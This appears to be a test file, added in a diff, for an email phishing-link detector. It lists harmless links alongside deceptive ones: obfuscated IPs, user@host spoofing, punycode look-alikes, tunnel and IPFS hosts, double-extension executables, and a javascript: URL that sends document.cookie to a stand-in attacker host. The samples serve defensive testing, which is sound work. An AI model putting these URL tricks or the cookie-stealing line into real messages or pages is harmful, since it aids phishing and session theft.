@@ -1,0 +1,166 @@
+import { BUILT_IN_BRANDS, DEFAULT_POLICY } from '../../../src/engine';
+import { suspiciousLink } from '../../../src/engine/detectors/suspicious-link';
+import { buildMessage } from '../../support/build-message';
+import { testDetector } from '../../support/detector-tester';
+
+const anchor = (href: string, text = 'Click here'): string => `<p>Hello</p><a href="${href}">${text}</a>`;
+
+testDetector(suspiciousLink, {
+  valid: [
+    { name: 'ordinary https link', message: { html: anchor('https://www.example.com/news') } },
+    { name: 'brand shortener amzn.to belongs to Amazon', message: { html: anchor('https://amzn.to/3xYz') } },
+    { name: 'brand shortener a.co', message: { html: anchor('https://a.co/d/abc') } },
+    { name: 'ESP click tracker with deep subdomains', message: { html: anchor('https://u123.ct.e1.sendgrid.net/ls/click?upn=abc') } },
+    { name: 'javascript:void(0) does nothing', message: { html: anchor('javascript:void(0)') } },
+    { name: 'inline data: image is a picture', message: { html: anchor('data:image/png;base64,iVBORw0KGgo=') } },
+    { name: 'mailto and tel links', message: { html: `${anchor('mailto:help@example.com')}${anchor('tel:+390612345678')}` } },
+    { name: 'domain with hex-looking letters is a name', message: { html: anchor('http://dead.beef.cafe/x') } },
+    { name: 'German IDN written in ASCII is not punycode in the link', message: { html: anchor('https://www.mueller.de/') } },
+    { name: 'source tarball download', message: { text: 'Get it at https://ftp.example.org/pub/tool-1.2.tar.gz' } },
+    { name: 'server program in path (eBayISAPI.dll)', message: { html: anchor('http://cgi.ebay.com/ws/eBayISAPI.dll?ViewItem&item=1') } },
+    { name: 'Google Doc (not a form)', message: { html: anchor('https://docs.google.com/document/d/1abc/edit') } },
+    { name: 'relative link', message: { html: anchor('/local/page') } },
+    { name: 'Safe Links wrapping a normal site', message: { html: anchor(`https://eur01.safelinks.protection.outlook.com/?url=${encodeURIComponent('https://www.example.org/')}&data=1`) } },
+  ],
+  invalid: [
+    {
+      name: 'dotted IPv4 host',
+      message: { html: anchor('http://192.0.2.10/login') },
+      findings: [{ messageId: 'ipHost', severity: 'medium', data: { host: '192.0.2.10' }, evidence: 'http://192.0.2.10/login' }],
+    },
+    {
+      name: 'hex and short IPv4 form',
+      message: { html: anchor('http://0x7f.1/') },
+      findings: [{ messageId: 'obfuscatedIp', severity: 'high', data: { host: '0x7f.1', address: '127.0.0.1' } }],
+    },
+    {
+      name: 'dword IPv4 form',
+      message: { html: anchor('http://3232235777/') },
+      findings: [{ messageId: 'obfuscatedIp', data: { address: '192.168.1.1' } }],
+    },
+    {
+      name: 'octal IPv4 form as in real phishing',
+      message: { text: 'Open http://010036057336/4QAfVc now' },
+      findings: [{ messageId: 'obfuscatedIp', severity: 'high' }],
+    },
+    {
+      name: 'user@host trick',
+      message: { html: anchor('http://paypal.com@evil.xyz/login', 'paypal.com') },
+      findings: [
+        { messageId: 'userinfo', severity: 'high', data: { shown: 'paypal.com', host: 'evil.xyz' } },
+        { messageId: 'abusedTld', severity: 'low', data: { domain: 'evil.xyz', tld: '.xyz' } },
+      ],
+    },
+    {
+      name: 'user@host trick with an obfuscated IP behind',
+      message: { html: anchor('http://g1fgv.com@0x40785ee0/4cfRjf') },
+      findings: [{ messageId: 'userinfo', severity: 'high' }, { messageId: 'obfuscatedIp', data: { address: '64.120.94.224' } }],
+    },
+    {
+      name: 'public shortener',
+      message: { html: anchor('https://bit.ly/3abcDEF') },
+      findings: [{ messageId: 'shortener', severity: 'low', data: { domain: 'bit.ly' } }],
+    },
+    {
+      name: 'punycode host mixing scripts',
+      message: { html: anchor('https://xn--pypal-4ve.com/signin') },
+      findings: [{ messageId: 'punycode', severity: 'medium', data: { host: 'xn--pypal-4ve.com', unicode: 'pаypal.com' } }],
+    },
+    {
+      name: 'punycode host in one script',
+      message: { html: anchor('https://xn--mller-kva.de/') },
+      findings: [{ messageId: 'punycode', severity: 'low', data: { unicode: 'müller.de' } }],
+    },
+    {
+      name: 'free site builder',
+      message: { html: anchor('https://secure-login-8812.web.app/') },
+      findings: [{ messageId: 'freeHosting', severity: 'low', data: { service: 'web.app' }, evidence: 'secure-login-8812.web.app' }],
+    },
+    {
+      name: 'cloud storage bucket page',
+      message: { html: anchor('https://bradesmail1221646298.z22.web.core.windows.net/index.html') },
+      findings: [{ messageId: 'freeHosting', data: { service: 'web.core.windows.net' } }],
+    },
+    {
+      name: 'Google Forms',
+      message: { html: anchor('https://docs.google.com/forms/d/e/1FAIpQLSf/viewform') },
+      findings: [{ messageId: 'formService', severity: 'low', data: { service: 'docs.google.com' } }],
+    },
+    {
+      name: 'forms.gle short form link',
+      message: { html: anchor('https://forms.gle/abcdef') },
+      findings: [{ messageId: 'formService', data: { service: 'forms.gle' } }],
+    },
+    {
+      name: 'ngrok tunnel',
+      message: { html: anchor('https://a1b2-203-0-113-5.ngrok-free.app/login') },
+      findings: [{ messageId: 'tunnel', severity: 'medium' }],
+    },
+    {
+      name: 'IPFS gateway subdomain',
+      message: { html: anchor('https://bafybeibvyyt3thiwxdphrcs6qsopvntxhqwznbb54u5z27gapwqpiidp2m.ipfs.dweb.link') },
+      findings: [{ messageId: 'ipfs', severity: 'high' }],
+    },
+    {
+      name: 'IPFS path on an unknown gateway',
+      message: { html: anchor('https://gw.example.net/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG/login.html') },
+      findings: [{ messageId: 'ipfs', severity: 'high' }],
+    },
+    {
+      name: 'javascript: URL with code',
+      message: { html: anchor("javascript:document.location='http://evil.example/'+document.cookie") },
+      findings: [{ messageId: 'scriptUrl', severity: 'medium', data: { scheme: 'javascript' } }],
+    },
+    {
+      name: 'data: URL carrying a page',
+      message: { html: anchor('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==') },
+      findings: [{ messageId: 'dataUrl', severity: 'high', data: { type: 'text/html' } }],
+    },
+    {
+      name: 'search-ms handler (Windows search loader)',
+      message: { html: anchor('search-ms:query=invoice&crumb=location:\\\\203.0.113.9@80\\share') },
+      findings: [{ messageId: 'localHandler', severity: 'high', data: { scheme: 'search-ms' } }],
+    },
+    {
+      name: 'brand domain used as a prefix',
+      message: { html: anchor('https://www.amazon.it.account-verify.example.com/x') },
+      findings: [{ messageId: 'deceptiveHost', severity: 'medium', data: { domain: 'example.com', brand: 'amazon' } }],
+    },
+    {
+      name: 'many subdomain labels',
+      message: { html: anchor('https://secure.login.account.update.example.net/') },
+      findings: [{ messageId: 'deceptiveHost', severity: 'low', data: { domain: 'example.net' } }],
+    },
+    {
+      name: 'executable download',
+      message: { html: anchor('https://files.example.com/Invoice_2291.pdf.exe') },
+      findings: [{ messageId: 'fileDownload', severity: 'medium', data: { file: 'Invoice_2291.pdf.exe', kind: 'executable' } }],
+    },
+    {
+      name: 'disk image download behind Safe Links',
+      message: {
+        html: anchor(`https://eur01.safelinks.protection.outlook.com/?url=${encodeURIComponent('https://cdn.example.org/dl/Fattura.iso')}&data=1`),
+      },
+      findings: [{ messageId: 'fileDownload', data: { kind: 'disk-image' }, evidence: 'https://cdn.example.org/dl/Fattura.iso' }],
+    },
+    {
+      name: 'archive download is a weak signal',
+      message: { html: anchor('https://cdn.example.org/docs/scan_0012.zip') },
+      findings: [{ messageId: 'fileDownload', severity: 'low' }],
+    },
+    {
+      name: 'repeated IP links are one finding with several pieces of evidence',
+      message: { html: `${anchor('http://198.51.100.1/a')}${anchor('http://198.51.100.1/b')}${anchor('http://198.51.100.1/c')}${anchor('http://198.51.100.1/d')}` },
+      findings: [{ messageId: 'ipHost', evidence: 'http://198.51.100.1/c' }],
+    },
+  ],
+});
+
+describe('suspicious-link evidence grouping', () => {
+  it('keeps at most 3 evidence items per kind of flag', () => {
+    const html = Array.from({ length: 10 }, (_, i) => anchor(`http://198.51.100.${i + 1}/`)).join('');
+    const findings = suspiciousLink.run(buildMessage({ html }), { policy: DEFAULT_POLICY, brands: BUILT_IN_BRANDS });
+    expect(findings).toHaveLength(1);
+    expect(findings[0]?.evidence).toHaveLength(3);
+  });
+});
